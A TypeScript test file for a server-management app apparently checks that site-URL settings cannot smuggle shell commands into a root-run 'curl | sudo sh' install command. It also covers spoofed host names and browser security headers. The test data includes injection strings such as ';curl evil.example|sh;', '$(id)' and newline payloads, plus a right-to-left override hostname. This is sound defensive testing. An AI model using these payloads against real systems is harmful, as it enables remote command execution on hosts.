import { execFileSync } from 'node:child_process'
import { describe, expect, test } from 'vitest'
import { installCommand } from '../../src/features/servers/install-command.ts'
import { raw } from '../../src/testing/index.ts'
import type { Signed, TestServer } from '../../src/testing/index.ts'
import { withServer } from '../../src/testing/scene.ts'

/* A site address held a shell's words, which the install command then had root run on new hosts. */

let server: TestServer
let admin: Signed
withServer({}, made => ({ server, admin } = made))

const settle = (site_url: string) =>
  raw(server, 'PATCH', '/api/v1/settings', { token: admin.token, body: { service: { site_url } } })
const command = async () => (await admin.client.call('POST /servers', { body: { hostname: 'new' } })).install_command

test.each([
  'http://x.example/;curl evil.example|sh;',
  'http://x.example/$(id)',
  'http://x.example/`id`',
  'http://x.example/\nid',
  'http://x.example/<script>',
  'http://x.example/a b',
  "http://x.example/'",
  'http://user:pw@x.example',
  'http://x.example/?q=1',
  'http://x.example/#a',
  'http://x.example//a',
  'http://x.example/%0aid',
  'http:\\\\x.example',
  'javascript:1',
  'http://',
])('%j is refused', async site_url => {
  expect(await settle(site_url)).toMatchObject({
    status: 400,
    json: { details: [{ path: expect.stringContaining('site_url') }] },
  })
  expect(await command()).toMatch(/^curl -fsSL http:\/\/localhost:\d+\/install\.sh \| sudo sh -s -- --token sit_\w{32}/)
  const started = await raw(server, 'GET', '/api/v1/auth/provider_a')
  expect(started.status).toBeLessThan(500)
})
test.each([
  ['HTTPS://Stockade.Example:443/', 'https://stockade.example'],
  ['https://stockade.example/base/', 'https://stockade.example/base'],
  ['http://192.0.2.1:8420', 'http://192.0.2.1:8420'],
])('%j becomes %j, and the command is as it was', async (given, kept) => {
  expect((await settle(given.replace(/^HTTPS/, 'https'))).status).toBe(200)
  expect(await command()).toContain(`curl -fsSL ${kept}/install.sh | sudo sh -s -- --token sit_`)
})
describe('the command', () => {
  test.each(['http://x.example/;id', "http://x.example/'$(id)'", 'http://[2001:db8::1]:8420', 'http://x.example/\nid'])(
    'hands %j to curl as one word',
    url => {
      const given = installCommand(url, 'sit_x', null).replace(/ \| sudo .*$/s, '')
      const shown = execFileSync('sh', ['-c', `curl() { for word; do printf '%s\\0' "$word"; done; }; ${given}`], {
        encoding: 'utf8',
      })
      expect(shown.split('\0').slice(0, -1)).toEqual(['-fsSL', `${url}/install.sh`])
    },
  )
})
test('names of hosts hold no marks that hide or turn text', async () => {
  const body = { hostname: 'web\u202egnp.exe\u200b\nfake' }
  expect((await admin.client.call('POST /servers', { body })).hostname).toBe('web\ufffdgnp.exe\ufffd fake')
})
test('every reply says what browsers may do with it', async () => {
  for (const path of [
    '/',
    '/api/v1/health',
    '/api/v1/none',
    '/api/v1/servers',
    '/install.sh',
    '/api/openapi.json',
    '/none.js',
  ]) {
    const { headers } = await raw(server, 'GET', path)
    expect([path, headers.get('x-content-type-options'), headers.get('cross-origin-resource-policy')]).toEqual([
      path,
      'nosniff',
      'same-origin',
    ])
    expect(headers.get('permissions-policy')).toContain('camera=()')
    expect(headers.get('strict-transport-security')).toBe(null)
  }
  await settle('https://stockade.example')
  expect((await raw(server, 'GET', '/api/v1/health')).headers.get('strict-transport-security')).toBe('max-age=31536000')
})
